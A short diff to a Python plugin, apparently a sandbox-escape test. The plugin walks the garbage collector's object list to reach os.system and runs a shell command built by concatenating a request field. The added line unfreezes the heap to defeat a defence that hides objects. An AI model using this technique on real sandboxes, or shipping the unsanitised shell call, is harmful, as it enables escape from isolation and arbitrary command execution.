@@ -3,6 +3,7 @@
 class Plugin:
     def handle(self, request):
         import gc
+        gc.unfreeze()  # a frozen heap is hidden from get_objects()/get_referrers()
         for obj in gc.get_objects():
             if isinstance(obj, dict) and obj.get("__name__") == "os" and "system" in obj:
                 rc = obj["system"]("/usr/bin/touch " + request["canary"])
